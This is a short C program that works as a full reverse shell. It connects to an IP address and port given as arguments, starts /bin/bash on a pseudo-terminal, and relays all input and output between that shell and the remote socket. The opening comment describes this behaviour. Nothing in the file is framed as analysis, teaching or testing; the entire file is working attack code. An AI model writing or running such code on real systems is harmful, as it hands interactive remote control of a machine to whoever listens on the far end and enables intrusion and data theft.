/* connect, give a shell a terminal of its own, carry bytes between the two: the shell never sees the socket */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <pty.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

static int copy(int from, int to)
{
	char buffer[4096];
	ssize_t count = read(from, buffer, sizeof buffer);

	return count > 0 && write(to, buffer, (size_t)count) == count;
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = {.sin_family = AF_INET};
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), terminal;

	if (argc != 3 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
		return 2;
	to.sin_port = htons((unsigned short)atoi(argv[2]));
	if (connect(fd, (struct sockaddr *)&to, sizeof to) != 0)
		return 1;
	if (forkpty(&terminal, NULL, NULL, NULL) == 0) {
		execl("/bin/bash", "bash", (char *)NULL);
		_exit(127);
	}
	struct pollfd both[2] = {{.fd = fd, .events = POLLIN}, {.fd = terminal, .events = POLLIN}};
	while (poll(both, 2, -1) > 0) {
		if (both[0].revents && !copy(fd, terminal))
			return 0;
		if (both[1].revents && !copy(terminal, fd))
			return 0;
	}
	return 0;
}
